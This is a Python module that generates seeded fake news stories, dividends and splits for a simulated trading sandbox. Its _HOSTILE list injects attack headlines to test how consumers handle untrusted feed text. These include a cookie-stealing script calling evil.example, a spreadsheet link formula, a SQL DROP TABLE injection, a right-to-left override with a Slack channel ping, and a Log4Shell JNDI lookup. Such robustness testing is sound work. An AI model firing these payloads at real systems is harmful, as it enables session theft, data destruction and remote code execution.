"""What happens to the twin's companies: stories with a mood, splits, dividends; the same for the same seed."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from zlib import crc32

from sparktrends.model import HOUR, SECOND
from sparktrends.sandbox.instruments import Instrument

_SLOT = 2 * HOUR  # each instrument has one story in each
_PLOTS = (
    (
        "{} beats estimates and raises its outlook for the year",
        "Revenue rose and margins widened; analysts cheered.",
        0.45,
    ),
    ("{} shares jump after a strong quarter", "Demand was better than feared, the company said.", 0.38),
    ("Analysts turn more positive on {}", "Two houses raised their targets.", 0.22),
    ("{} holds steady as investors wait for the Fed", "Trading was calm.", 0.02),
    ("What to watch at {} this week", "A look at the calendar.", 0.0),
    ("{} trades sideways", "Volume was below average.", -0.04),
    ("Regulators look into {}", "The agency asked for documents.", -0.24),
    ("{} warns of weaker demand", "The outlook was cut for the second time.", -0.41),
    ("{} slumps after missing expectations", "Losses were wider than feared.", -0.52),
)
_HOSTILE = (
    "<script>fetch('//evil.example/'+document.cookie)</script> {}",
    '=HYPERLINK("http://evil.example","{}")',
    "'; DROP TABLE market.bars; -- {}",
    "{} \u202egnihtemos yas ot\u202c <!channel> <https://evil.example|click>",
    "{} " + "A" * 900,
    "{{{{7*7}}}} ${{jndi:ldap://evil.example/{}}}",
)
_WIRES = ("Reuters", "MarketWatch", "Benzinga", "https://wire.example/feed", "Yahoo")


@dataclass(frozen=True, slots=True)
class Story:
    """One story: ``at`` in µs, ``score`` from -1 (bad) to 1 (good), ``others`` are mentioned too."""

    id: int
    at: int
    headline: str
    summary: str
    url: str
    source: str
    about: Instrument
    others: tuple[Instrument, ...]
    score: float


def stories(all_of: Sequence[Instrument], start: int, end: int, seed: int, *, hostile: bool) -> list[Story]:
    """Everything published in [start, end), oldest first; with ``hostile`` one headline in three is an attack."""
    told = [
        _story(about, slot, all_of, seed, hostile=hostile)
        for about in all_of
        if about.kind != "rate"
        for slot in range(start // _SLOT, end // _SLOT + 1)
    ]
    return sorted((s for s in told if start <= s.at < end), key=lambda s: s.at)


def _story(about: Instrument, slot: int, all_of: Sequence[Instrument], seed: int, *, hostile: bool) -> Story:
    dice = crc32(f"{seed}:{about.name}:{slot}".encode())
    plot, summary, score = _PLOTS[dice % len(_PLOTS)]
    if hostile and dice % 3 == 0:
        plot = _HOSTILE[dice // 3 % len(_HOSTILE)]
    at = slot * _SLOT + dice % (_SLOT // SECOND) * SECOND
    other = all_of[dice // 7 % len(all_of)]
    return Story(
        130_000_000 + dice % 10_000_000,
        at,
        plot.format(about.title or about.name),
        summary,
        f"https://wire.example/{about.name.lower()}/{slot}",
        _WIRES[dice // 11 % len(_WIRES)],
        about,
        (other,) if other is not about and other.kind != "rate" else (),
        round(score + (dice % 100 - 50) / 1000, 6),
    )


@dataclass(frozen=True, slots=True)
class Action:
    """A split (``value`` new shares for one old) or a dividend (``value`` in the currency) on a day."""

    kind: str
    day: date
    value: float


def actions(of: Instrument, now: int) -> list[Action]:
    """Splits and dividends up to now, oldest first: a dividend a quarter for two years, one split in 2020."""
    if of.kind != "stock":
        return []
    today = (datetime(1970, 1, 1, tzinfo=UTC) + timedelta(microseconds=now)).date()
    quarters = [date(today.year - back, month, 10) for back in (2, 1, 0) for month in (2, 5, 8, 11)]
    dividends = [Action("dividend", day, round(of.price / 1000, 2)) for day in quarters if day <= today]
    return [Action("split", date(2020, 8, 31), 4.0), *dividends]


def mood(score: float) -> str:
    """The label of a score, as Alpha Vantage defines it, its two spellings mixed as there.

    >>> mood(-0.4), mood(0.2), mood(0.0)
    ('Bearish', 'Somewhat-Bullish', 'Neutral')
    """
    bounds: Iterable[tuple[float, str]] = (
        (-0.35, "Bearish"), (-0.15, "Somewhat-Bearish"), (0.15, "Neutral"), (0.35, "Somewhat-Bullish"),
    )  # fmt: skip
    return next((label for bound, label in bounds if score <= bound), "Bullish")
